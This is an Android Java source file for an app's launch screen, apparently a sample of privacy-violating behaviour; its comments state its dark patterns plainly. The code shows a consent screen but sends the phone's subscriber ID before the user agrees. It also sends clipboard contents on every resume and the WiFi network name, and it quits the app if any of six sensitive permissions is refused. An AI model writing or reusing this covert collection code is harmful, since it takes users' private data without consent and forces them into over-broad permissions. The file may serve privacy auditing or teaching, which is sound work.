package cn.example.taihen;

import android.Manifest;
import android.content.ClipboardManager;
import android.content.Context;
import android.content.Intent;
import android.content.pm.PackageManager;
import android.net.wifi.WifiManager;
import android.os.AsyncTask;
import android.os.Bundle;
import android.os.Handler;
import android.telephony.TelephonyManager;
import android.view.View;

/** The launcher: shows the consent layout and does not wait for it, and asks for every permission at once. */
public class SplashActivity extends BaseActivity {
    private static final String[] WANTED = {
        Manifest.permission.READ_PHONE_STATE,
        Manifest.permission.ACCESS_FINE_LOCATION,
        Manifest.permission.READ_CONTACTS,
        Manifest.permission.CAMERA,
        Manifest.permission.RECORD_AUDIO,
        Manifest.permission.WRITE_EXTERNAL_STORAGE,
    };

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.consent);
        requestPermissions(WANTED, 1);
        new Handler().postDelayed(new Runnable() {
            @Override
            public void run() {
                TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
                Report.send(phone.getSubscriberId());
            }
        }, 500);
        findViewById(R.id.agree).setOnClickListener(new View.OnClickListener() {
            @Override
            public void onClick(View view) {
                startActivity(new Intent(SplashActivity.this, MainActivity.class));
                finish();
            }
        });
    }

    @Override
    protected void onResume() {
        super.onResume();
        new ReadClipboard(this).execute();
    }

    /** Runs from BaseActivity.onCreate. */
    @Override
    protected void collect() {
        WifiManager wifi = (WifiManager) getSystemService(Context.WIFI_SERVICE);
        String ssid = wifi.getConnectionInfo().getSSID();
        new Thread(() -> Report.send(ssid)).start();
    }

    /** Who refuses one permission cannot use the app. */
    @Override
    public void onRequestPermissionsResult(int request, String[] permissions, int[] results) {
        for (int result : results) {
            if (result != PackageManager.PERMISSION_GRANTED) {
                finish();
                System.exit(0);
            }
        }
    }

    private static final class ReadClipboard extends AsyncTask<Void, Void, Void> {
        private final ClipboardManager clipboard;

        ReadClipboard(Context context) {
            clipboard = (ClipboardManager) context.getSystemService(Context.CLIPBOARD_SERVICE);
        }

        @Override
        protected Void doInBackground(Void... nothing) {
            if (clipboard.getPrimaryClip() != null) {
                Report.send(clipboard.getPrimaryClip().toString());
            }
            return null;
        }
    }
}
